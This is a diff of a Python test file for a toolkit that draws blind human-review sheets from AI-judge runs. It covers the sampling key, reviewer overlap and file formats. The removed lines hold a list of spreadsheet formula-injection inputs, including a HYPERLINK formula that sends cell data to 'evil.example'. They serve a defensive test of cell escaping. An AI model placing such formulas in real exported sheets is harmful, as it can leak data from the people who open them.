@@ -1,228 +1,276 @@
-"""The blind sheet: nothing of the verdicts, safe in a spreadsheet, and every text comes back whole."""
+"""A draw from a run: nothing of the verdicts reaches a sheet, and the key says all that an estimate needs."""
 
-import csv
-import json
 import re
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
+from review_cases import D1, D2, a_result, a_run, a_verdict
 
 from judgekit.errors import InputError
-from judgekit.records import (
-    ANSWER,
-    THE_ANSWER,
-    THE_REFERENCE,
-    Case,
-    Check,
-    Claim,
-    Context,
-    Evidence,
-    Label,
-    Manifest,
-    Result,
-    Sample,
-    Score,
-    Verdict,
-)
-from judgekit.review import VERDICT_COLUMN, DrawnSheet, KeyLine, draw_sheet, guard, key_path, unguard, write_sheet
-from judgekit.review.cells import MOST_UNITS, fit, parts
-from judgekit.rundir import write_run
-from judgekit.sampling import draw, units_of
+from judgekit.metrics import metrics_of
+from judgekit.records import Evidence, Label
+from judgekit.review import Order, Passage, draw_review, exports_of, key_of, labels_of
+from judgekit.review.labels import add_labels, key_path
+from judgekit.review.records import HumanLabel, JudgeSaid
+from judgekit.review.sheets import FORMATS, Format, format_for
+from judgekit.review.units import shown
+from judgekit.rundir import Run
+from judgekit.sampling import Unit, checks_of
 
-LABELS = list(Label)
+METRICS = metrics_of(["faithfulness", "citation_support", "context_recall", "answer_correctness"])
+NOW = "2026-11-30T02:00:00+00:00"
 
 
-def a_result(row_id, *, label=Label.SUPPORTED, checks=(("d1", "d2"), ("d1",)), claim="A claim.", **sample):
-    texts = {"question": "What?", "answer": "An answer.", "reference": "The gold answer.", **sample}
-    contexts = texts.pop("contexts", (Context(id="d1", text="First text."), Context(id="d2", text="Second text.")))
-    verdicts = tuple(
-        Verdict(
-            check=Check(claim_id="c1", sources=sources),
-            label=label,
-            evidence=(Evidence(context_id="d1", quote="SECRET-QUOTE", verified=False),),
-        )
-        for sources in checks
-    )
-    case = Case(
-        sample=Sample(id=row_id, contexts=contexts, **texts),
-        claims=(Claim(id="c1", side=ANSWER, text=claim, segment_ids=("s1",), start=0, end=8),),
-        verdicts=verdicts,
-    )
-    return Result(case=case, scores=(Score.share("faithfulness", [0.125]),))
+class Shelf:
+    """A format that keeps the units it is given, and writes their ids."""
+
+    def __init__(self):
+        self.units = {}
+        self.form = Format("shelf", ".txt", self.write, read=lambda path: [], recognises=lambda path: False)
+
+    def write(self, units, path):
+        self.units[path.name] = units
+        path.write_text("".join(f"{unit.unit_id}\n" for unit in units), encoding="utf-8")
 
 
 @pytest.fixture
-def run_of(tmp_path):
-    def made(*results, name="run"):
-        return write_run(tmp_path / name, results, Manifest(judgekit="0.1.0", logs=(), judge={}, metrics={}))
+def shelf():
+    return Shelf()
+
+
+@pytest.fixture
+def drawn_from(tmp_path, shelf):
+    def made(run, name="sheet.txt", **order):
+        order = {"n": 10, "seed": 7, **order}
+        return draw_review(run, Order(**order), sheet=tmp_path / name, form=shelf.form, at=NOW)
 
     return made
 
 
-def rows_of(path):
-    with path.open(encoding="utf-8-sig", newline="") as file:
-        return list(csv.DictReader(file))
+# --- what a reviewer sees ----------------------------------------------------------------------
 
 
-def whole(row, name):
-    """A text from its cells."""
-    cells = [row[name], *(row[f"{name}_{at}"] for at in range(2, 50) if f"{name}_{at}" in row)]
-    return "".join(map(unguard, cells))
+def unit_of(result, *sources, claim="a1", visible=False):
+    unit = next(
+        one.unit
+        for one in checks_of([result], METRICS).candidates
+        if one.unit.sources == sources and one.unit.claim_id == claim
+    )
+    return shown(result, unit, export_id="x1", visible=visible)
 
 
-# --- what the reviewer sees --------------------------------------------------------------------
+def test_a_unit_shows_what_the_judge_saw_with_the_cited_first():
+    result = a_result("q1", answer="  One. \n Two [2]. ")
+    unit = unit_of(result, "d1", "d2")
+    assert (unit.question, unit.claim, unit.text, unit.side) == ("What?", "A claim.", "  One. \n Two [2]. ", "answer")
+    assert unit.text[slice(*unit.span)] == "One. \n Two [2]."
+    assert unit.markers == ("[2]",)
+    assert unit.passages == (
+        Passage(context_id="d2", text=D2.text, rank=2, is_cited=True),
+        Passage(context_id="d1", text=D1.text, title="Terms", doc_id="d", version="2026-03", rank=1),
+    )
+    assert unit.judge is None
 
 
-def test_a_sheet_shows_what_the_judge_saw(run_of, tmp_path):
-    contexts = (Context(id="d1", text="First text.", title="Terms"), Context(id="d2", text="Second\ntext."))
-    run = run_of(a_result("q1", contexts=contexts, checks=(("d1", "d2"), ("d2",), THE_REFERENCE, THE_ANSWER)))
-    path = tmp_path / "sheet.csv"
-    assert draw_sheet(run, n=10, seed=7, path=path) == DrawnSheet(units=4, of=4, key=tmp_path / "sheet.key.jsonl")
-    rows = rows_of(path)
-    assert list(rows[0]) == ["unit_id", "question", "claim", "sources", "answer", VERDICT_COLUMN, "note"]
-    assert {row["sources"] for row in rows} == {
-        "[d1] Terms\nFirst text.\n\n[d2]\nSecond\ntext.",
-        "[d2]\nSecond\ntext.",
-        "[the reference]\nThe gold answer.",
-        "[the answer]\nAn answer.",
-    }
-    assert {(row["question"], row["claim"], row["answer"]) for row in rows} == {("What?", "A claim.", "An answer.")}
-    assert {(row[VERDICT_COLUMN], row["note"]) for row in rows} == {("", "")}
+def test_a_claim_of_the_reference_stands_in_the_reference_and_a_text_can_be_a_source():
+    result = a_result("q1")
+    assert unit_of(result, "d1", "d2", claim="r1").text == "The gold."
+    assert unit_of(result, "@reference").passages == (Passage(context_id="@reference", text="The gold."),)
+    against = unit_of(result, "@answer", claim="r1")
+    assert (against.side, against.text, against.passages) == (
+        "reference",
+        "The gold.",
+        (Passage(context_id="@answer", text="An answer [2]."),),
+    )
 
 
-def test_the_header_names_the_verdicts_a_human_may_give():
-    assert VERDICT_COLUMN == "verdict (supported / partially_supported / unsupported / contradicted)"
+def test_markers_that_were_logged_beside_the_text_are_told_by_id():
+    result = a_result("q1")
+    logged = result.having(case=result.case.having(sample=result.case.sample.having(citations=())))
+    assert unit_of(logged, "d1", "d2").markers == ("2",)
 
 
-@pytest.mark.parametrize("label", LABELS)
-def test_a_sheet_is_the_same_byte_for_byte_whatever_the_judge_said(run_of, tmp_path, label):
-    said, other = tmp_path / "said.csv", tmp_path / "other.csv"
-    rows = [f"q{at}" for at in range(8)]
-    draw_sheet(run_of(*(a_result(row, label=label) for row in rows), name="a"), n=5, seed=1, path=said)
-    draw_sheet(run_of(*(a_result(row, label=Label.SUPPORTED) for row in rows), name="b"), n=5, seed=1, path=other)
-    assert said.read_bytes() == other.read_bytes()
-    assert "SECRET-QUOTE" not in said.read_text(encoding="utf-8")
+def test_a_whole_answer_is_shown_with_its_claims_and_all_its_contexts():
+    unit = shown(a_result("q1"), Unit.whole("q1"), export_id="x1", visible=True)
+    assert (unit.kind, unit.claim, unit.claims, unit.span, unit.judge) == ("sample", None, ("A claim.",), None, None)
+    assert [passage.context_id for passage in unit.passages] == ["d1", "d2"]
 
 
-def test_rows_stand_in_the_order_of_the_draw_however_they_are_handed_over(run_of, tmp_path):
-    run = run_of(*(a_result(f"q{at}") for at in range(10)))
-    drawn = draw(units_of(run), 7, seed=3)
-    write_sheet(tmp_path / "sheet.csv", run, sorted(drawn), seed=3, of=20)
-    assert [row["unit_id"] for row in rows_of(tmp_path / "sheet.csv")] == [unit.unit_id for unit in drawn]
+def test_what_the_judge_said_is_shown_only_when_asked_for():
+    verdict = a_verdict(
+        "a1",
+        "d1",
+        "d2",
+        label=Label.CONTRADICTED,
+        probabilities={"contradicted": 0.9},
+        evidence=(Evidence(context_id="d2", quote="Second", verified=True),),
+    )
+    result = a_result("q1", verdicts=(verdict,))
+    said = JudgeSaid(label=Label.CONTRADICTED, quotes=(("d2", "Second"),), probabilities={"contradicted": 0.9})
+    assert unit_of(result, "d1", "d2", visible=True).judge == said
+    assert unit_of(result, "d1", "d2").judge is None
+
+
+def test_a_unit_of_another_run_is_refused():
+    with pytest.raises(InputError, match="holds no claim 'a9'"):
+        shown(a_result("q1"), Unit("u1", "q1", "a9", ("d1",)), export_id="x1", visible=False)
+
+
+@pytest.mark.parametrize("form", [form for form in FORMATS if form != "xlsx"])
+def test_a_sheet_is_the_same_byte_for_byte_whatever_the_judge_said(tmp_path, form):
+    written = []
+    for label in list(Label)[:4]:
+        run = a_run(tmp_path / label.value, *(a_result(f"q{at}", label=label) for at in range(4)))
+        path = tmp_path / f"{label.value}.sheet"
+        draw_review(run, Order(n=100, seed=1), sheet=path, form=FORMATS[form], at=NOW)
+        written.append({file.name.partition(".")[2]: file.read_bytes() for file in tmp_path.glob(f"{label.value}.*")})
+    assert all(files == written[0] for files in written)
+    assert all(b"SECRET-QUOTE" not in raw for raw in written[0].values())
 
 
 # --- the key -----------------------------------------------------------------------------------
 
 
-def test_the_key_joins_each_unit_to_its_verdict_and_its_probability(run_of, tmp_path):
-    run = run_of(*(a_result(f"q{at}", label=LABELS[at % 5]) for at in range(10)))
-    path = tmp_path / "new" / "sheet.csv"
-    drawn = draw_sheet(run, n=8, seed=11, path=path)
-    assert (drawn.units, drawn.of) == (8, 20)
-    key = [KeyLine.model_validate_json(line) for line in drawn.key.read_text(encoding="utf-8").splitlines()]
-    assert [line.unit_id for line in key] == [row["unit_id"] for row in rows_of(path)]
-    assert {(line.inclusion, line.of, line.seed) for line in key} == {(0.4, 20, 11)}
+def test_the_key_joins_each_unit_to_its_verdict_and_its_chance(tmp_path, drawn_from, shelf):
+    labels = [Label.SUPPORTED, Label.UNSUPPORTED]
+    run = a_run(tmp_path / "run", *(a_result(f"q{at}", label=labels[at % 3 == 0]) for at in range(60)))
+    export = drawn_from(run, n=40, metrics=["faithfulness", "citation_support"])
+    key = key_of(run, export.export_id)
+    assert [line.unit_id for line in key] == [unit.unit_id for unit in shelf.units["sheet.txt"]]
+    assert (export.population, export.drawn, export.metrics) == (120, 40, ("citation_support", "faithfulness"))
+    sizes = {line.stratum: line.stratum_size for line in key}
+    assert sizes == {
+        f"{metric} | {label} | clear": size
+        for metric in ("citation_support", "faithfulness")
+        for label, size in (("supported", 40), ("unsupported", 20))
+    }
+    assert sum(sizes.values()) == export.population, "the key alone describes the whole population"
     for line in key:
-        assert line.label == run[line.sample_id].case.label(Check(claim_id=line.claim_id, sources=line.sources))
+        assert line.label == run[line.sample_id].case.label(Unit(*line_unit(line)).check)
+        assert line.inclusion == line.stratum_drawn / line.stratum_size
+        assert line.metrics == (line.stratum.partition(" ")[0],)
+        assert (line.purpose, line.blind, line.bin, line.seed) == ("estimate", True, "clear", 7)
 
 
-def test_no_sheet_and_no_key_is_ever_overwritten(run_of, tmp_path):
-    run, path = run_of(a_result("q1")), tmp_path / "sheet.csv"
-    path.write_text("filled in", encoding="utf-8")
-    with pytest.raises(InputError, match="give another name"):
-        draw_sheet(run, n=5, seed=1, path=path)
-    assert path.read_text(encoding="utf-8") == "filled in"
-    path.rename(key_path(path))
-    with pytest.raises(InputError, match=re.escape("sheet.key.jsonl")):
-        draw_sheet(run, n=5, seed=1, path=path)
-    assert not path.exists()
+def line_unit(line):
+    return line.unit_id, line.sample_id, line.claim_id, line.sources
 
 
-def test_a_run_without_verdicts_gives_no_empty_sheet(run_of, tmp_path):
+def test_the_same_draw_again_is_the_same_export_and_one_key(tmp_path, drawn_from):
+    run = a_run(tmp_path / "run", *(a_result(f"q{at}") for at in range(9)))
+    first = drawn_from(run, n=20)
+    raw = key_path(run, first.export_id).read_bytes()
+    second = drawn_from(run, "other.txt", n=20)
+    assert second.export_id == first.export_id
+    assert key_path(run, first.export_id).read_bytes() == raw
+    assert exports_of(run) == [second]
+    assert second.files == ("sheet.txt", "other.txt")
+
+
+def test_a_run_that_was_judged_anew_does_not_get_the_old_key(tmp_path, drawn_from):
+    first = drawn_from(a_run(tmp_path / "run", a_result("q1")))
+    again = a_run(tmp_path / "again", a_result("q1", label=Label.UNSUPPORTED))
+    key_path(again, first.export_id).parent.mkdir()
+    key_path(again, first.export_id).write_bytes(key_path(Run(tmp_path / "run"), first.export_id).read_bytes())
+    with pytest.raises(InputError, match="the judge has said something else"):
+        drawn_from(again, "again.txt")
+    assert not (tmp_path / "again.txt").exists()
+
+
+def test_metrics_that_rest_on_no_claims_are_left_out_or_refused(tmp_path, drawn_from):
+    run = a_run(tmp_path / "run", a_result("q1"), metrics=("context_relevance", "faithfulness"))
+    assert drawn_from(run).metrics == ("faithfulness",)
+    for name in ("context_relevance", "citation_support", "nonsense"):
+        with pytest.raises(InputError, match=f"{name}: not a metric of this run that rests on claims"):
+            drawn_from(run, "other.txt", metrics=[name])
+
+
+# --- picks, reviewers, what is left out --------------------------------------------------------
+
+
+def test_picks_are_marked_have_no_chance_and_are_drawn_only_once(tmp_path, drawn_from, shelf):
+    run = a_run(tmp_path / "run", *(a_result(f"q{at}") for at in range(40)), metrics=("faithfulness",))
+    drawn = {line.unit_id for line in key_of(run, drawn_from(run, n=10).export_id)}
+    rows = [f"q{at}" for at in range(20)]
+    export = drawn_from(run, "more.txt", n=10, inspect=rows)
+    key = key_of(run, export.export_id)
+    picked = [line for line in key if line.purpose == "inspect"]
+    assert {line.unit_id for line in key} - {line.unit_id for line in picked} == drawn
+    assert {line.sample_id for line in key} >= set(rows)
+    assert {(line.inclusion, line.stratum_size, line.stratum_drawn) for line in picked} == {(None, None, None)}
+    assert len(picked) == export.inspected == len(shelf.units["more.txt"]) - 10
+    assert drawn_from(run, "one.txt", n=10, inspect=[picked[0].unit_id]).inspected == 1
+    with pytest.raises(InputError, match="no row or unit 'q99'"):
+        drawn_from(run, "none.txt", inspect=["q1", "q99"])
+
+
+def test_reviewers_are_dealt_equal_hands_and_the_overlap_is_in_two_of_them(tmp_path, drawn_from, shelf):
+    run = a_run(tmp_path / "run", *(a_result(f"q{at}") for at in range(60)), metrics=("faithfulness",))
+    export = drawn_from(run, n=60, reviewers=3, overlap=0.5)
+    hands = [{unit.unit_id for unit in shelf.units[f"sheet.{at}.txt"]} for at in (1, 2, 3)]
+    doubled = {line.unit_id for line in key_of(run, export.export_id) if line.is_overlap}
+    assert len(doubled) == export.overlap == 30
+    assert sum(map(len, hands)) == 90
+    assert all(20 <= len(hand) <= 40 for hand in hands)
+    assert {unit for unit in set.union(*hands) if sum(unit in hand for hand in hands) == 2} == doubled
+    assert not (tmp_path / "sheet.txt").exists()
+
+
+def test_an_overlap_needs_a_second_reviewer(tmp_path, drawn_from):
+    with pytest.raises(InputError, match="--reviewers 2"):
+        drawn_from(a_run(tmp_path / "run", a_result("q1")), overlap=0.3)
+
+
+def test_a_larger_draw_asks_only_for_what_has_no_label(tmp_path, drawn_from, shelf):
+    run = a_run(tmp_path / "run", *(a_result(f"q{at}") for at in range(60)), metrics=("faithfulness",))
+    export = drawn_from(run, n=20)
+    earlier = [unit.unit_id for unit in shelf.units["sheet.txt"]]
+    told = {"export_id": export.export_id, "reviewer": "ann", "verdict": "supported", "at": NOW, "where": "w"}
+    add_labels(run, [HumanLabel(unit_id=unit_id, **told) for unit_id in earlier[:15]])
+    larger = drawn_from(run, "more.txt", n=40, only_new=True)
+    asked = {unit.unit_id for unit in shelf.units["more.txt"]}
+    assert asked.isdisjoint(earlier[:15])
+    assert len(asked) == 25
+    in_key = {line.unit_id for line in key_of(run, larger.export_id)}
+    assert in_key == asked | set(earlier), "the key of the larger draw holds all, so earlier labels count for it"
+    assert {label.unit_id for label in labels_of(run)} < in_key
+
+
+# --- nothing is lost ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("there", ["sheet.txt", "sheet.2.txt"])
+def test_no_sheet_is_ever_overwritten(tmp_path, drawn_from, there):
+    run = a_run(tmp_path / "run", a_result("q1"))
+    (tmp_path / there).write_text("filled in", encoding="utf-8")
+    with pytest.raises(InputError, match=f"{re.escape(there)}: exists already"):
+        drawn_from(run, reviewers=1 if there == "sheet.txt" else 2)
+    assert (tmp_path / there).read_text(encoding="utf-8") == "filled in"
+    assert exports_of(run) == []
+
+
+def test_a_run_without_verdicts_gives_no_empty_sheet(tmp_path, drawn_from):
+    run = a_run(tmp_path / "run", a_result("q1", verdicts=()))
     with pytest.raises(InputError, match="nothing to review"):
-        draw_sheet(run_of(a_result("q1", checks=())), n=5, seed=1, path=tmp_path / "sheet.csv")
-    assert not (tmp_path / "sheet.csv").exists()
+        drawn_from(run)
+    assert not (tmp_path / "sheet.txt").exists()
 
 
-def test_units_of_another_run_are_refused_before_anything_is_written(run_of, tmp_path):
-    elsewhere = draw(units_of([a_result("q2")]), 5, seed=1)
-    with pytest.raises(InputError, match="'q2'"):
-        write_sheet(tmp_path / "sheet.csv", run_of(a_result("q1")), elsewhere, seed=1, of=2)
-    assert list(tmp_path.glob("sheet*")) == []
-
-
-# --- in a spreadsheet --------------------------------------------------------------------------
-
-HOSTILE = (
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "  +1+2",
-    "-5 degrees",
-    "@SUM(A1)",
-    "\uff1dcmd",
-    "\ttab first",
-    "\u200b=1",
-    "'quoted' at the start",
-    'a "quoted" word, a comma;\na line\n\n=and one more',
+@pytest.mark.parametrize(
+    ("path", "name", "found"),
+    [("a.csv", None, "csv"), ("a.XLSX", None, "xlsx"), ("a.json", "argilla", "argilla"), ("a.csv", "xlsx", "xlsx")],
 )
+def test_the_format_is_told_or_follows_from_the_name(tmp_path, path, name, found):
+    assert format_for(tmp_path / path, name).name == found
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-def test_hostile_text_comes_back_whole_and_no_cell_can_be_a_formula(run_of, tmp_path, text):
-    contexts = (Context(id="=d1\r\n+2", text=text),)
-    run = run_of(a_result("=q1", checks=(("=d1\r\n+2",),), question=text, answer=text, claim=text, contexts=contexts))
-    draw_sheet(run, n=1, seed=1, path=tmp_path / "sheet.csv")
-    (row,) = rows_of(tmp_path / "sheet.csv")
-    assert {whole(row, name) for name in ("question", "claim", "answer")} == {text}
-    assert whole(row, "sources") == f"[=d1 +2]\n{text}"
-    assert not any(re.match(r"[\s\u200b]*[=+\-@\uff1d]|[\t\r\n]", cell) for cell in row.values())
-
-
-def test_a_long_text_goes_on_in_further_cells_and_loses_nothing(run_of, tmp_path):
-    long = "".join(f"{at} = {at};\n" for at in range(6_000)) + "=" * 40_000 + "\U0001f600" * 20_000
-    contexts = (Context(id="d1", text=long), Context(id="d2", text="Short."))
-    run = run_of(a_result("q1", contexts=contexts, checks=(("d1",), ("d2",)), answer="x" * 40_000))
-    draw_sheet(run, n=2, seed=1, path=tmp_path / "sheet.csv")
-    rows = rows_of(tmp_path / "sheet.csv")
-    assert list(rows[0]) == [
-        "unit_id",
-        "question",
-        "claim",
-        *("sources", "sources_2", "sources_3", "sources_4", "sources_5"),
-        *("answer", "answer_2"),
-        VERDICT_COLUMN,
-        "note",
-    ]
-    assert {whole(row, "sources") for row in rows} == {f"[d1]\n{long}", "[d2]\nShort."}
-    assert {whole(row, "answer") for row in rows} == {"x" * 40_000}
-    assert max(len(cell.encode("utf-16-le")) // 2 for row in rows for cell in row.values()) <= 32_767
-
-
-def test_the_file_is_what_spreadsheets_expect(run_of, tmp_path):
-    draw_sheet(run_of(a_result("q1", answer="Größe\r\nzwei\x00\x1b[31m")), n=1, seed=1, path=tmp_path / "sheet.csv")
-    raw = (tmp_path / "sheet.csv").read_bytes()
-    assert raw.startswith(b'\xef\xbb\xbf"unit_id","question",')
-    assert raw.endswith(b',"",""\r\n')
-    assert raw.count(b"\r\n") == 2
-    (row,) = rows_of(tmp_path / "sheet.csv")
-    assert row["answer"] == "Größe\nzwei\ufffd\ufffd[31m"
-
-
-@given(st.text())
-def test_what_is_guarded_is_no_formula_and_comes_back(text):
-    assert unguard(guard(text)) == text
-    assert guard(text)[:1] not in set("=+-@\t\r\n")
-
-
-@given(st.text(st.sampled_from("ab \n=\U0001f600"), max_size=300), st.integers(0, 3))
-def test_the_parts_of_a_text_are_the_text_and_each_fits_a_cell(text, times):
-    long = text + text * 400 * times
-    pieces = parts(long)
-    assert "".join(pieces) == long
-    assert all(len(piece.encode("utf-16-le")) // 2 <= MOST_UNITS for piece in pieces)
-
-
-@given(st.text(st.characters()))
-def test_what_is_fit_holds_nothing_that_a_cell_cannot(text):
-    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]", fit(text))
-    assert json.loads(json.dumps(fit(text))) == fit(text)
+@pytest.mark.parametrize(
+    ("path", "name", "told"),
+    [
+        ("a.json", None, "--format label-studio or argilla"),
+        ("a.doc", None, "give --format xlsx or"),
+        ("a.csv", "exel", "unknown format 'exel'; there are: xlsx, "),
+    ],
+)
+def test_a_format_that_is_not_clear_is_asked_for(tmp_path, path, name, told):
+    with pytest.raises(InputError, match=told):
+        format_for(tmp_path / path, name)
